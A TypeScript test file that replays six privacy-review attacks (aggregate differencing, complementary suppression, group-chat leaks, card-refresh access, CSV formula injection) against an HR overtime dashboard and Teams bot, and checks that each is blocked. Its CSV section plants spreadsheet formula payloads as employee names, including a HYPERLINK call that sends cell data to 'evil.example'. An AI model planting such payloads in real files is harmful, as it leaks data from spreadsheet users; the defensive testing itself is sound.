import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from '../../core/db/sql.ts';
import { seedDashboardFixtures } from '../e2e/dashboard-fixtures.ts';
import { BOT_APP_ID, startTestApp, TENANT_ID, type TestApp } from '../harness/app.ts';
import { idOf, shown, tabClient, truth } from './attack-client.ts';
import { FIXTURE_MONTH, type PrivacyPersonas, recompute, seedPrivacyFixtures } from './privacy-fixtures.ts';

/**
 * The six findings of the privacy review (issue 12), each replayed as the attacker did it, with a
 * valid token, against the whole app. Each test scores what the replies reveal against the truth
 * in the database: a total that, minus what else the viewer is shown, isolates fewer than
 * `FLOOR` people (or a person outside the viewer's subtree) is a leak.
 */

const FLOOR = 5;
const CHIEF = 'D00002'; // 情報政策課長: manages the section's staff, not the director-general sitting in it
const STAFF = 'D00003'; // 情報政策課 係員, has a 100 h alert in FIXTURE_MONTH
const HR = 'D00001';
const WLB = 'D00005';

/** A residual of people the viewer cannot see individually: 0 is fine, 1..floor-1 is a leak. */
const leaks = (residualPeople: number) => residualPeople > 0 && residualPeople < FLOOR;

describe('privacy findings replayed against the app', () => {
  let t: TestApp;
  let get: ReturnType<typeof tabClient>;
  let personas: PrivacyPersonas;
  const ids = { johoSeisaku: '', b03: '', b05: '', b06: '', alertId: 0 };

  beforeAll(async () => {
    t = await startTestApp({ seedDemo: false, overrides: { now: () => new Date('2026-11-05T03:00:00Z') } });
    await seedDashboardFixtures(t.db);
    personas = await seedPrivacyFixtures(t.db);
    get = tabClient(t);
    ids.johoSeisaku = await idOf(
      t.db,
      sql`select section_id::text as id from employee where employee_no = ${CHIEF}`,
    );
    for (const code of ['B03', 'B05', 'B06'] as const)
      ids[code.toLowerCase() as 'b03'] = await idOf(
        t.db,
        sql`select id::text as id from bureau where code = ${code}`,
      );
    const [alert] = await t.db.query<{ id: number }>(sql`
      select a.id::int as id from overtime_alert a join employee e on e.id = a.employee_id where e.employee_no = ${STAFF}`);
    ids.alertId = alert?.id ?? 0;
  }, 120_000);
  afterAll(() => t?.stop());

  describe('1. manager differencing: section total − the people he may see', () => {
    it('the chief never gets the section total when it isolates people outside his subtree (page, series, export)', async () => {
      const truthNow = await truth(t.db, 'section', ids.johoSeisaku, FIXTURE_MONTH);
      const page = await get(CHIEF, `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`);
      expect(page.status).toBe(200);
      const people = (page.json?.people ?? []) as { employeeNo: string; minutes: number | null }[];
      // He does see his own people, with their hours.
      expect(people.map((p) => p.employeeNo)).toContain(STAFF);
      const total = page.json?.total as { thisMonth: { totalHours: number } | null };
      const residual = truthNow.staff - people.filter((p) => p.minutes !== null).length;
      expect(residual).toBeGreaterThan(0); // the director-general sits in this section
      if (leaks(residual)) expect(shown(total.thisMonth?.totalHours)).toBeNull();
      // The same total per month (trend) and in the month series route.
      const trend = (page.json?.trend ?? []) as { month: string; totalHours: number | null }[];
      for (const p of trend)
        expect({ month: p.month, total: p.totalHours }).toEqual({ month: p.month, total: null });
      const series = await get(
        CHIEF,
        `/overtime/sections/${ids.johoSeisaku}/months?from=2026-05&to=${FIXTURE_MONTH}`,
      );
      if (series.status === 200)
        for (const m of (series.json?.months ?? []) as { totalHours: unknown; atLeast100h: unknown }[]) {
          expect(shown(m.totalHours)).toBeNull();
          expect(shown(m.atLeast100h)).toBeNull();
        }
      // The manager's overview and the section list route show the same section as a row.
      const overview = await get(CHIEF, `/dashboard?month=${FIXTURE_MONTH}`);
      const row = (
        (overview.json?.rows ?? []) as { id: string; thisMonth: { totalHours: number | null } | null }[]
      ).find((r) => r.id === ids.johoSeisaku);
      expect(row?.thisMonth?.totalHours ?? null).toBeNull();
      expect(
        shown((overview.json?.total as { thisMonth?: { totalHours?: number } })?.thisMonth?.totalHours),
      ).toBeNull();
      const list = await get(CHIEF, `/overtime/sections?month=${FIXTURE_MONTH}`);
      if (list.status === 200)
        for (const s of (list.json?.sections ?? []) as { totalHours: unknown }[])
          expect(shown(s.totalHours)).toBeNull();
      const csv = await get(
        CHIEF,
        `/dashboard/export?view=section&id=${ids.johoSeisaku}&month=${FIXTURE_MONTH}`,
      );
      expect(csv.text).not.toContain(String(Math.round(truthNow.minutes / 6) / 10));
    });

    it('instead he gets the total of his own people, which he could add up anyway', async () => {
      const page = await get(CHIEF, `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`);
      const mine = page.json?.mine as { staff: number; totalHours: number } | null;
      const people = (page.json?.people ?? []) as { minutes: number | null }[];
      const sum = people.reduce((n, p) => n + (p.minutes ?? 0), 0);
      expect(mine).toMatchObject({ staff: people.length, totalHours: Math.round(sum / 6) / 10 });
      // His section's non-managerial people are all his: their figures stay. Its managers are him and
      // the director-general, so the all-staff total would give the director-general away.
      const total = page.json?.total as { hidden: string | null; allStaffHidden: string | null } | undefined;
      expect(total?.allStaffHidden).not.toBeNull();
    });
  });

  describe('2. complementary suppression: bureau total − the sections shown', () => {
    /** Sections of a bureau whose figures the viewer reads off the replies, and the bureau total. */
    async function attack(viewer: string, bureauId: string) {
      const bureau = await truth(t.db, 'bureau', bureauId, FIXTURE_MONTH);
      const sections = await t.db.query<{ id: string }>(
        sql`select id::text as id from section where bureau_id = ${bureauId}`,
      );
      const known = new Map<string, number>();
      // Every route that shows a section's figure: the dashboard table, the overtime list, its own page.
      const dash = await get(viewer, `/dashboard/bureaus/${bureauId}?month=${FIXTURE_MONTH}`);
      for (const r of (dash.json?.rows ?? []) as { id: string; thisMonth: { totalHours: number } | null }[]) {
        const v = shown(r.thisMonth?.totalHours);
        if (v !== null) known.set(r.id, v);
      }
      const list = await get(viewer, `/overtime/bureaus/${bureauId}/sections?month=${FIXTURE_MONTH}`);
      for (const r of (list.json?.sections ?? []) as { id: string; totalHours: unknown }[]) {
        const v = shown(r.totalHours);
        if (v !== null) known.set(r.id, v);
      }
      for (const s of sections) {
        const own = await get(viewer, `/dashboard/sections/${s.id}?month=${FIXTURE_MONTH}`);
        const v = shown(
          (own.json?.total as { thisMonth?: { totalHours?: number } } | undefined)?.thisMonth?.totalHours,
        );
        if (v !== null) known.set(s.id, v);
      }
      const totalShown =
        shown(
          (dash.json?.total as { thisMonth?: { totalHours?: number } } | undefined)?.thisMonth?.totalHours,
        ) !== null;
      let hiddenStaff = 0;
      for (const s of sections)
        if (!known.has(s.id)) hiddenStaff += (await truth(t.db, 'section', s.id, FIXTURE_MONTH)).staff;
      return {
        totalShown,
        hiddenStaff,
        bureauStaff: bureau.staff,
        hiddenCount: sections.length - known.size,
      };
    }

    it('one small room in a bureau: its complement stays hidden on every route and its own page', async () => {
      for (const viewer of [HR, personas.execOnlyB05]) {
        const r = await attack(viewer, ids.b05);
        // (With three managers, 消防庁's all-staff total is itself hidden for these viewers.)
        if (r.totalShown) expect(r.hiddenCount).not.toBe(1);
        expect({ viewer, leak: r.totalShown && leaks(r.hiddenStaff) }).toEqual({ viewer, leak: false });
      }
    });

    it('two small rooms whose sum is still under the floor: a third cell is hidden too', async () => {
      for (const viewer of [HR, personas.execOnlyB05]) {
        const r = await attack(viewer, ids.b06);
        expect({ viewer, hiddenStaff: r.hiddenStaff, leak: leaks(r.hiddenStaff) }).toMatchObject({
          leak: false,
        });
      }
    });

    it('childcare take-up: total births − the bureaus shown never isolates a small bureau (floor from 設定)', async () => {
      // Births in FY2026 reported for men of three bureaus: 2 (B05), 9 (B06), 7 (B07).
      for (const [code, n] of [
        ['B05', 2],
        ['B06', 9],
        ['B07', 7],
      ] as const)
        await t.db.query(sql`
          insert into childcare_case (employee_id, status, source, reported_on, birth_date)
          select e.id, 'started', 'report', '2026-06-01', '2026-06-01'
            from employee e join section s on s.id = e.section_id join bureau b on b.id = s.bureau_id
           where b.code = ${code} and e.active order by e.employee_no limit ${n}`);
      for (const viewer of [HR, personas.execOnlyB05]) {
        const res = await get(viewer, '/childcare/take-up?fiscalYear=2026');
        expect(res.status).toBe(200);
        const bureaus = res.json?.bureaus as { births: number | string; bureau: { name: string } }[];
        const total = (res.json?.total as { births: number | string } | undefined)?.births;
        if (typeof total !== 'number') continue;
        const hidden = total - bureaus.reduce((n, b) => n + (typeof b.births === 'number' ? b.births : 0), 0);
        expect({ viewer, leak: leaks(hidden) }).toEqual({ viewer, leak: false });
        expect(bureaus.filter((b) => typeof b.births === 'string').length).not.toBe(1);
      }
      // The floor is the 設定 value: raise it and the 7 births of B07 are hidden too.
      const token = await t.signSsoToken(await t.oidOf(HR));
      const put = (minGroupSize: number) =>
        fetch(`${t.baseUrl}/api/tab/settings/privacy`, {
          method: 'PUT',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ value: { minGroupSize } }),
        });
      expect((await put(8)).status).toBe(200);
      try {
        const res = await get(HR, '/childcare/take-up?fiscalYear=2026');
        const b07 = ((res.json?.bureaus ?? []) as { births: unknown; bureau: { name: string } }[]).find(
          (b) => b.bureau.name === '近畿総合通信局',
        );
        expect(b07?.births).toBe('<8');
      } finally {
        await put(FLOOR);
      }
    });

    it('figures of a newer import are never cut by the sizes of the old data (another instance imported)', async () => {
      const b04 = await idOf(t.db, sql`select id::text as id from bureau where code = 'B04'`);
      type Row = { name: string; hidden: string | null; thisMonth: unknown };
      const row = async () => {
        const page = await get(HR, `/dashboard/bureaus/${b04}?month=${FIXTURE_MONTH}`);
        return ((page.json?.rows ?? []) as Row[]).find((r) => r.name === '小規模5人室');
      };
      expect((await row())?.hidden).toBeNull(); // 5 people: shown, and its sizes are now cached
      // Another instance imports a month in which one of the five has no data: 4 people left.
      await t.db.query(sql`update employee set active = false where employee_no = 'S-FLOOR-5-4'`);
      await t.db.query(sql`
        delete from overtime_month where month = ${`${FIXTURE_MONTH}-01`}::date
           and employee_id = (select id from employee where employee_no = 'S-FLOOR-5-4')`);
      await recompute(t.db);
      await t.db.query(sql`insert into attendance_import (source, row_count) values ('api', 1)`);
      expect(await row()).toMatchObject({ hidden: 'small_group', thisMonth: null });
    });

    it('cells hidden in the table say why (small group or complement)', async () => {
      const dash = await get(HR, `/dashboard/bureaus/${ids.b05}?month=${FIXTURE_MONTH}`);
      const reasons = ((dash.json?.rows ?? []) as { hidden: string | null }[])
        .map((r) => r.hidden)
        .filter(Boolean);
      expect(reasons.sort()).toEqual(['complementary', 'small_group']);
    });
  });

  describe('3. executives see aggregates, not individuals', () => {
    it('an executive who manages nobody gets no named alert; the bureau’s WLB officer gets the 100 h ones', async () => {
      const exec = await get(personas.execOnlyB03, '/overtime/alerts?open=0');
      const named = JSON.stringify(exec.json ?? {});
      expect(named).not.toContain('中村');
      expect(named).not.toContain('6300');
      const wlb = await get(WLB, '/overtime/alerts?open=0');
      const alerts = (wlb.json?.alerts ?? []) as { level: string; employeeName: string }[];
      expect(alerts.some((a) => a.employeeName === '中村 健太' && a.level === 'month100')).toBe(true);
      expect(alerts.every((a) => a.level === 'month100')).toBe(true);
      // The chief, who manages the subject, still gets it.
      const chief = await get(CHIEF, '/overtime/alerts?open=0');
      expect(JSON.stringify(chief.json)).toContain('中村');
    });

    it('an executive who manages nobody sees no people on any section page', async () => {
      const page = await get(
        personas.execOnlyB03,
        `/dashboard/sections/${ids.johoSeisaku}?month=${FIXTURE_MONTH}`,
      );
      expect(page.status).toBe(200);
      // Only their own row, if they sit in the section themself.
      const people = (page.json?.people ?? []) as { employeeNo: string }[];
      expect(people.filter((p) => p.employeeNo !== personas.execOnlyB03)).toEqual([]);
      expect(page.text).not.toContain('中村');
    });
  });

  describe('4. nothing personal in group chats and channels', () => {
    const groupActivity = (oid: string, text: string, type: 'groupChat' | 'channel', locale = 'ja-JP') => ({
      type: 'message',
      text,
      id: `m-${Math.random()}`,
      channelId: 'msteams',
      serviceUrl: t.connector.url,
      timestamp: new Date().toISOString(),
      locale,
      from: { id: `29:${oid}`, aadObjectId: oid, name: 'user' },
      recipient: { id: `28:${BOT_APP_ID}`, name: 'Kinmu Companion' },
      conversation:
        type === 'channel'
          ? {
              id: '19:general@thread.tacv2;messageid=1',
              conversationType: 'channel',
              isGroup: true,
              tenantId: TENANT_ID,
            }
          : { id: '19:group@thread.v2', conversationType: 'groupChat', isGroup: true, tenantId: TENANT_ID },
      channelData: {
        tenant: { id: TENANT_ID },
        ...(type === 'channel' ? { team: { id: '19:team@thread.tacv2' } } : {}),
      },
    });

    async function replyTo(activity: Record<string, unknown>) {
      const before = t.connector.sent().length;
      await t.sendActivity(activity);
      const conv = (activity.conversation as { id: string }).id;
      const call = await t.connector.waitFor(
        (c) => t.connector.sent().indexOf(c) >= before && c.conversationId === conv,
      );
      // Anything else posted to the shared conversation in the same turn counts too.
      await new Promise((r) => setTimeout(r, 200));
      return t.connector
        .sent()
        .slice(before)
        .filter((c) => c.conversationId === conv)
        .concat(call)
        .map((c) => JSON.stringify(c.activity));
    }

    for (const [who, command] of [
      [CHIEF, '残業'],
      [STAFF, '残業'],
      [STAFF, '育児'],
      [STAFF, '計画'],
      [STAFF, '休暇'],
      [STAFF, '設定'],
    ] as const)
      for (const type of ['groupChat', 'channel'] as const)
        it(`${command} from ${who} in a ${type}: a card that opens the 1:1 chat, no personal data`, async () => {
          const posted = (await replyTo(groupActivity(await t.oidOf(who), command, type))).join('\n');
          for (const personal of ['中村', '健太', 'D00003', '面接指導', '105時間', '出産予定', 'quietStart'])
            expect(posted).not.toContain(personal);
          expect(posted).toContain(`https://teams.microsoft.com/l/chat/0/0?users=28:${BOT_APP_ID}`);
          expect(posted).toContain('個人チャット');
        });

    it('answers in English for an English user', async () => {
      const [en] = await t.db.query<{ employee_no: string }>(sql`
        update employee set locale = 'en' where employee_no = (
          select employee_no from employee where section_id = ${ids.johoSeisaku} and employee_no like 'E%' order by employee_no desc limit 1)
        returning employee_no`);
      const posted = (
        await replyTo(groupActivity(await t.oidOf(en?.employee_no ?? ''), 'overtime', 'groupChat', 'en-US'))
      ).join('\n');
      expect(posted).toContain('personal chat');
      expect(posted).toContain(`users=28:${BOT_APP_ID}`);
    });

    it('a proactive personal card never goes to a stored group conversation', async () => {
      const oid = await t.oidOf(WLB);
      await t.db.query(sql`
        insert into conversation_ref (aad_object_id, tenant_id, conversation_id, service_url, reference, locale)
        values (${oid}, ${TENANT_ID}, '19:leaky@thread.v2', ${t.connector.url},
                ${JSON.stringify({ conversation: { id: '19:leaky@thread.v2', conversationType: 'groupChat', isGroup: true }, serviceUrl: t.connector.url, channelId: 'msteams' })}, 'ja')
        on conflict (aad_object_id) do update set reference = excluded.reference, conversation_id = excluded.conversation_id`);
      const before = t.connector.sent().length;
      const outcome = await t.app.messenger.sendCard(
        { aadObjectId: oid },
        { type: 'AdaptiveCard', version: '1.5', body: [{ type: 'TextBlock', text: '個人あて' }] },
      );
      // The stored group reference is never used: the outbox opens the person's own 1:1 chat
      // instead (or, where Teams refuses that, reports no conversation).
      if (outcome.ok) {
        const [stored] = await t.db.query<{ conversation_id: string }>(
          sql`select conversation_id from conversation_ref where aad_object_id = ${oid}`,
        );
        expect(stored?.conversation_id).not.toBe('19:leaky@thread.v2');
      } else expect(outcome).toEqual({ ok: false, reason: 'no_conversation' });
      expect(
        t.connector
          .sent()
          .slice(before)
          .filter((c) => c.conversationId === '19:leaky@thread.v2'),
      ).toEqual([]);
    });

    it('help still works in a group chat (it is not personal)', async () => {
      const posted = (await replyTo(groupActivity(await t.oidOf(STAFF), 'ヘルプ', 'groupChat'))).join('\n');
      expect(posted).toContain('残業');
      expect(posted).not.toContain('users=28:');
    });
  });

  describe('5. card refresh and invokes answer only what the recipient was sent', () => {
    const invoke = async (
      oid: string,
      verb: string,
      data: unknown,
      conversation?: Record<string, unknown>,
    ) => {
      const res = await t.sendActivity(
        t.personalActivity(oid, {
          type: 'invoke',
          name: 'adaptiveCard/action',
          value: { action: { type: 'Action.Execute', verb, data } },
          ...(conversation ? { conversation } : {}),
        }),
      );
      return JSON.stringify(res.body);
    };

    beforeAll(async () => {
      const [chief] = await t.db.query<{ id: string }>(
        sql`select id from employee where employee_no = ${CHIEF}`,
      );
      await t.db.query(sql`
        insert into overtime_alert_action (alert_id, actor_id, action, comment)
        values (${ids.alertId}, ${chief?.id}, 'comment', '本人には内密に: 家庭の事情あり')`);
      await t.db.query(sql`
        insert into delivery (purpose, subject, recipient, state, aad_object_id, sent_at)
        select 'overtime.alert', ${`${ids.alertId}:`} || r.kind, e.id::text, 'sent', e.entra_oid::text, now()
          from (values (${STAFF}, 'health_notice'), (${WLB}, 'alert'), (${CHIEF}, 'alert')) as r(no, kind)
          join employee e on e.employee_no = r.no`);
    });

    it('the subject refreshing his own alert gets his health notice, never the manager’s card and note', async () => {
      const answer = await invoke(await t.oidOf(STAFF), 'overtime.alert.refresh', { alertId: ids.alertId });
      expect(answer).not.toContain('本人には内密に');
      expect(answer).not.toContain('overtime.alert.follow_up');
      expect(answer).not.toContain('D00003');
      expect(answer).toContain('面接指導'); // his own health notice
    });

    it('the manager gets his card with the note; someone who was sent nothing gets a refusal', async () => {
      expect(
        await invoke(await t.oidOf(CHIEF), 'overtime.alert.refresh', { alertId: ids.alertId }),
      ).toContain('本人には内密に');
      const stranger = await invoke(await t.oidOf(HR), 'overtime.alert.refresh', { alertId: ids.alertId });
      expect(stranger).not.toContain('中村');
      expect(stranger).toContain('あなた宛てではない');
    });

    it('announcement.ack in a channel does not hand out a draft (or any announcement not posted there)', async () => {
      const [hr] = await t.db.query<{ id: string }>(sql`select id from employee where employee_no = ${HR}`);
      const [draft] = await t.db.query<{ id: string }>(sql`
        insert into announcement (title, body, audience, created_by)
        values ('未公開の人事異動', '課長 交代の件（内示前）', '{"everyone": true}', ${hr?.id}) returning id::text as id`);
      const channel = {
        id: '19:general@thread.tacv2;messageid=9',
        conversationType: 'channel',
        isGroup: true,
        tenantId: TENANT_ID,
      };
      const answer = await invoke(
        await t.oidOf(STAFF),
        'announcement.ack',
        { announcementId: draft?.id },
        channel,
      );
      expect(answer).not.toContain('未公開の人事異動');
      expect(answer).not.toContain('内示前');
      const personal = await invoke(await t.oidOf(STAFF), 'announcement.ack', { announcementId: draft?.id });
      expect(personal).not.toContain('内示前');
    });
  });

  describe('6. CSV formula injection', () => {
    const evil = ['=HYPERLINK("http://evil.example/"&A1,"x")', '+SUM(1)', '-2+3', '@cmd', '\tTAB', '\rCR'];

    beforeAll(async () => {
      // Names as a compromised upstream register could hold them (the import now refuses them).
      const staff = await t.db.query<{ id: string }>(sql`
        select id from employee where section_id = ${ids.johoSeisaku} and employee_no like 'E%' order by employee_no limit 6`);
      for (const [i, s] of staff.entries())
        await t.db.query(sql`update employee set family_name = ${evil[i] ?? ''} where id = ${s.id}`);
    });

    /** Cells as Excel sees them: no cell may start with a formula trigger. */
    const triggers = (csv: string) =>
      csv
        .replace(/^\uFEFF/, '')
        .split('\r\n')
        .flatMap((line) => line.split(','))
        .map((c) => c.replace(/^"/, ''))
        .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

    it('the leave section table CSV neutralises every leading trigger', async () => {
      const [campaign] = await t.db.query<{ id: string }>(
        sql`select id::text as id from leave_campaign limit 1`,
      );
      const res = await get(
        CHIEF,
        `/leave/campaigns/${campaign?.id}/sections/${ids.johoSeisaku}/export?format=csv`,
      );
      expect(res.status).toBe(200);
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });

    it('the announcement delivery CSV neutralises every leading trigger', async () => {
      const [hr] = await t.db.query<{ id: string }>(sql`select id from employee where employee_no = ${HR}`);
      const [a] = await t.db.query<{ id: string }>(sql`
        insert into announcement (title, body, audience, created_by, state)
        values ('周知', '本文', '{"everyone": true}', ${hr?.id}, 'sent') returning id::text as id`);
      await t.db.query(sql`
        insert into delivery (purpose, subject, recipient, state)
        select 'announcement', ${a?.id}, id::text, 'sent' from employee where section_id = ${ids.johoSeisaku}`);
      const res = await get(HR, `/announcements/${a?.id}/export.csv`);
      expect(res.status).toBe(200);
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });

    it('the org import refuses names a spreadsheet would run, with their line, and stores nothing', async () => {
      const csv =
        '職員番号,姓,名,局コード,局名,局区分,課コード,課名\n' +
        'X1,山田,太郎,B01,大臣官房,本省内部部局,B01-001,人事課\n' +
        'X2,"=HYPERLINK(""http://evil.example"")",花子,B01,大臣官房,本省内部部局,B01-001,人事課\n' +
        'X3,鈴木,@SUM(1),B01,大臣官房,本省内部部局,B01-001,+人事課\n';
      const token = await t.signSsoToken(await t.oidOf(HR));
      const res = await fetch(`${t.baseUrl}/api/tab/import/org/preview`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ fileName: 'org.csv', contentBase64: Buffer.from(csv).toString('base64') }),
      });
      const body = JSON.stringify(await res.json());
      for (const where of [
        'line 3, column family_name',
        'line 4, column given_name',
        'line 4, column section_name',
      ])
        expect(body).toContain(where);
      expect(body).toContain('数式');
      const [x] = await t.db.query(sql`select 1 from employee where employee_no in ('X1', 'X2', 'X3')`);
      expect(x).toBeUndefined();
    });

    it('the dashboard CSV (people of the chief) neutralises them too', async () => {
      const res = await get(
        CHIEF,
        `/dashboard/export?view=section&id=${ids.johoSeisaku}&month=${FIXTURE_MONTH}`,
      );
      expect(res.text).toContain('HYPERLINK');
      expect(triggers(res.text)).toEqual([]);
    });
  });
});
